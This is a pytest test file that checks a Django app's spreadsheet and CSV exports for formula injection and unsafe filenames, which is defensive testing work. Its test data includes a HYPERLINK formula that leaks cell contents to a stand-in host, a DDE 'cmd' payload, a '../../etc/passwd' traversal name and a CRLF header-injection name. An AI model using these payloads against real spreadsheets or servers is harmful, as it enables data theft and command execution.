"""alakompass.spreadsheets, the one module every export writes through.

The unit tests pin its rules (formula neutralising, control characters, sheet titles, CSV
format, download headers); the last tests send hostile text through both exports, the
inventory and the dashboard, and read the files back with openpyxl and csv.
"""

import codecs
import csv
import datetime
import io
import zoneinfo
from decimal import Decimal

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from alakompass import spreadsheets
from alakompass.spreadsheets import Sheet
from tests import factories


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"klicka")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"klicka")',
        ),
        ("+46 70 123 45 67", "'+46 70 123 45 67"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        (" =1+1", "' =1+1"),  # spreadsheets may trim the space, then run the rest
        ("\u00a0\u2003@SUM(1)", "'\u00a0\u2003@SUM(1)"),  # also Unicode white space
        ("\x00=1", "'=1"),  # the NUL goes first, then the formula is quoted
        ("Kurs = bra", "Kurs = bra"),
        ("Vanlig text", "Vanlig text"),
        ("'=1", "'=1"),  # already quoted: left alone
        ("", ""),
        ("   ", "   "),
    ],
)
def test_neutralise_quotes_every_text_a_spreadsheet_would_run(text, expected):
    assert spreadsheets.neutralise(text) == expected


def test_control_characters_an_xlsx_cannot_hold_are_dropped_and_line_breaks_kept():
    text = "a\x00b\x08c\x0bd\x0ce\x1ff\ud800g\uffffh\ti\nj\rk"
    assert spreadsheets.strip_control_characters(text) == "abcdefgh\ti\nj\rk"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-1, -1),
        (Decimal("-7.5"), Decimal("-7.5")),
        (2.5, 2.5),
        (None, None),
        (datetime.date(2026, 1, 31), datetime.date(2026, 1, 31)),
        ("-1", "'-1"),
    ],
)
def test_numbers_and_dates_stay_typed_in_xlsx(value, expected):
    assert spreadsheets.xlsx_cell(value) == expected


def test_booleans_are_yes_or_no_in_the_active_language():
    with translation.override("sv"):
        assert [spreadsheets.xlsx_cell(True), spreadsheets.xlsx_cell(False)] == ["Ja", "Nej"]
        assert spreadsheets.csv_field(True) == "Ja"
    with translation.override("en"):
        assert [spreadsheets.yes_no(True), spreadsheets.yes_no(False)] == ["Yes", "No"]


def test_aware_time_stamps_become_local_wall_clock_time(settings):
    settings.TIME_ZONE = "Europe/Stockholm"
    moment = datetime.datetime(2026, 6, 1, 10, 30, 15, 123, tzinfo=datetime.UTC)
    assert spreadsheets.xlsx_cell(moment) == datetime.datetime(2026, 6, 1, 12, 30, 15)
    assert spreadsheets.csv_field(moment) == "2026-06-01 12:30"
    naive = datetime.datetime(2026, 6, 1, 10, 30, 15, 999)
    assert spreadsheets.local_time(naive) == datetime.datetime(2026, 6, 1, 10, 30, 15)
    assert zoneinfo.ZoneInfo(settings.TIME_ZONE)  # the zone the test relies on exists


def test_csv_fields_use_the_decimal_separator_and_iso_dates():
    assert spreadsheets.csv_field(Decimal("7.5"), decimal_separator=",") == "7,5"
    assert spreadsheets.csv_field(0.25, decimal_separator=",") == "0,25"
    assert spreadsheets.csv_field(-3) == "-3"
    assert spreadsheets.csv_field(datetime.date(2026, 1, 31)) == "2026-01-31"
    assert spreadsheets.csv_field(None) == ""
    assert spreadsheets.csv_field("@x") == "'@x"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("a/b:c*d?e[f]g\\h", "a b c d e f g h"),
        ("x" * 40, "x" * 31),
        ("'Quoted'", "Quoted"),
        ("", "Sheet"),
        ("[]", "Sheet"),
        ("Tab\x01le", "Table"),
        ("History", "History (2)"),  # Excel keeps the name History for itself
    ],
)
def test_sheet_titles_follow_excels_rules(title, expected):
    assert spreadsheets.sheet_title(title) == expected


def test_sheet_titles_are_unique_in_a_workbook_regardless_of_case():
    used: set[str] = set()
    titles = [spreadsheets.sheet_title(text, used) for text in ["Kurser", "KURSER", "kurser"]]
    assert titles == ["Kurser", "KURSER (2)", "kurser (3)"]
    long = [spreadsheets.sheet_title("y" * 40, used) for _n in range(2)]
    assert long == ["y" * 31, "y" * 27 + " (2)"]
    assert all(len(title) <= 31 for title in titles + long)


def _sheets() -> list[Sheet]:
    return [
        Sheet(
            title="Översikt",
            headers=["Rubrik"],
            rows=[["Datum", datetime.date(2026, 1, 31)], [], ["Andel", "Antal"], ["A", 3]],
            auto_filter=False,
            bold_rows=frozenset({2}),
        ),
        Sheet(
            title="Kurser: alla",
            headers=["Kod", "Poäng", "Ny", "=Rubrik"],
            rows=[["DT001G", Decimal("7.5"), True, "=1+1"], ["X\x0bY", -1, False, None]],
        ),
    ]


def _read_xlsx(content: bytes) -> list[Worksheet]:
    return load_workbook(io.BytesIO(content)).worksheets


def test_workbook_holds_every_sheet_with_bold_frozen_headings():
    with translation.override("sv"):
        overview, courses = _read_xlsx(spreadsheets.sheets_xlsx(sheets=_sheets(), title="T"))
    assert [overview.title, courses.title] == ["Översikt", "Kurser alla"]
    assert [c.value for c in courses[1]] == ["Kod", "Poäng", "Ny", "'=Rubrik"]
    assert all(cell.font.bold for cell in courses[1])
    assert courses.freeze_panes == "A2"
    assert courses.auto_filter.ref == "A1:D3"
    assert overview.auto_filter.ref is None
    assert [c.value for c in courses[2]] == ["DT001G", 7.5, "Ja", "'=1+1"]
    assert courses["B2"].data_type == "n"
    assert [c.value for c in courses[3]][:3] == ["XY", -1, "Nej"]
    assert overview["A4"].font.bold  # the heading inside the sheet
    assert not overview["A5"].font.bold
    assert overview["B2"].value == datetime.datetime(2026, 1, 31)
    assert overview["B2"].number_format == "yyyy-mm-dd"


def test_csv_is_semicolon_separated_utf8_with_bom_and_the_languages_decimals():
    sheet = _sheets()[1]
    with translation.override("sv"):
        content = spreadsheets.sheet_csv(sheet=sheet)
    assert content.startswith(codecs.BOM_UTF8)
    text = content.decode("utf-8-sig")
    assert text.splitlines() == ["Kod;Poäng;Ny;'=Rubrik", "DT001G;7,5;Ja;'=1+1", "XY;-1;Nej;"]
    with translation.override("en"):
        content = spreadsheets.sheet_csv(sheet=sheet)
    assert content.decode("utf-8-sig").splitlines()[1] == "DT001G;7.5;Yes;'=1+1"


def test_csv_quotes_separators_so_no_text_starts_a_cell_of_its_own():
    """OWASP: a ; or a quote inside a text must not let the rest begin a new cell."""
    hostile = ["a;=1+1", '=1+2";=1+2', "x\r\n=cmd", 'b";@SUM(1)']
    sheet = Sheet(title="T", headers=["H"], rows=[[text] for text in hostile])
    content = spreadsheets.sheet_csv(sheet=sheet).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=";"))
    assert rows[1:] == [["a;=1+1"], ["'=1+2\";=1+2"], ["x\r\n=cmd"], ['b";@SUM(1)']]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("PRG001-inventory-2026-01-31.xlsx", "PRG001-inventory-2026-01-31.xlsx"),
        ("../../etc/passwd", "etc_passwd"),
        ('a"b\\c;d.CSV', "a_b_c_d.csv"),
        ("fakultet Hälsa & vård.xlsx", "fakultet_Hälsa_vård.xlsx"),
        ("CON.xlsx", "_CON.xlsx"),
        ("rapport\r\nSet-Cookie: x=1.xlsx", "rapport_Set-Cookie_x_1.xlsx"),
        ("", "download"),
        (".xlsx", "download.xlsx"),
        ("x" * 300 + ".xlsx", "x" * 145 + ".xlsx"),
    ],
)
def test_download_names_are_safe_on_every_system(name, expected):
    assert spreadsheets.safe_filename(name) == expected


def test_an_ascii_name_is_a_quoted_filename():
    header = spreadsheets.attachment_header("PRG001-inventory-2026-01-31.xlsx")
    assert header == 'attachment; filename="PRG001-inventory-2026-01-31.xlsx"'


def test_a_swedish_name_goes_as_utf8_after_an_ascii_fallback():
    header = spreadsheets.attachment_header("ala-kompassen-fakultet-Hälsa-2026.xlsx")
    assert header == (
        'attachment; filename="ala-kompassen-fakultet-Halsa-2026.xlsx"; '
        "filename*=utf-8''ala-kompassen-fakultet-H%C3%A4lsa-2026.xlsx"
    )


def test_a_download_is_an_attachment_kept_out_of_shared_caches():
    response = spreadsheets.download_response(
        b"x", content_type=spreadsheets.CSV_CONTENT_TYPE, filename="a b.csv"
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="a_b.csv"'
    assert "private" in response["Cache-Control"]
    assert "no-store" in response["Cache-Control"]


# Hostile partner names, as a spreadsheet must show them (the partner register is shared by
# the whole university, so one coordinator's typing reaches SAM's dashboard export).
HOSTILE = {
    '=HYPERLINK("http://evil.example/?x="&A1,"klicka")': '\'=HYPERLINK("http://evil.example/?x="&A1,"klicka")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\n=1+2": "'\n=1+2",
    " =1+3": "' =1+3",
    "\x01=1+4": "'=1+4",
    "Bolaget\x0b AB": "Bolaget AB",
    "a;=1+5": "a;=1+5",
}


@pytest.fixture
def hostile_program(program):
    activity = factories.ActivityFactory(program=program, title="=1+9")
    for name in HOSTILE:
        factories.ActivityPartnerFactory(
            activity=activity, partner=factories.PartnerFactory(name=name)
        )
    return program


def _every_text(worksheets: list[Worksheet]) -> list[str]:
    cells = [cell for sheet in worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)  # no formula cell at all
    return [cell.value for cell in cells if isinstance(cell.value, str)]


def _assert_safe(texts: list[str]) -> None:
    risky = [text for text in texts if text.lstrip().startswith(("=", "+", "-", "@"))]
    risky += [text for text in texts if text.startswith(("\t", "\r", "\n"))]
    assert risky == []
    assert all("\x01" not in text and "\x0b" not in text for text in texts)


@pytest.mark.django_db
def test_hostile_cells_are_neutralised_in_the_inventory_export(
    client, hostile_program, coordinator
):
    client.force_login(coordinator)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    args = [hostile_program.pk]
    response = client.get(reverse("programs:inventory_export_xlsx", args=args))
    texts = _every_text(_read_xlsx(response.content))
    _assert_safe(texts)
    assert set(HOSTILE.values()) <= set(texts)
    assert "'=1+9" in texts
    response = client.get(
        reverse("programs:inventory_export_csv", args=args), {"sheet": "partners"}
    )
    content = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=";"))
    names = [row[2] for row in rows[1:]]
    assert sorted(names) == sorted(HOSTILE.values())
    _assert_safe([cell for row in rows for cell in row])


@pytest.mark.django_db
def test_hostile_cells_are_neutralised_in_the_dashboard_export(client, hostile_program, sam_user):
    compass_round = factories.CompassRoundFactory(program=hostile_program)
    factories.ActionFactory(
        round=compass_round,
        description="\t=cmd",
        owner="@owner\x0b",
        due_date=datetime.date(2020, 1, 1),
    )
    client.force_login(sam_user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    response = client.get(reverse("assessments:dashboard_export"))
    assert response["Content-Type"] == spreadsheets.XLSX_CONTENT_TYPE
    workbook = load_workbook(io.BytesIO(response.content))
    texts = _every_text(workbook.worksheets)
    _assert_safe(texts)
    partners = [
        row[0] for row in workbook["Partner organisations"].iter_rows(min_row=2, values_only=True)
    ]
    assert sorted(partners) == sorted(HOSTILE.values())
    overdue = list(workbook["Overdue actions"].iter_rows(min_row=2, values_only=True))
    assert overdue[0][2:4] == ("'\t=cmd", "'@owner")
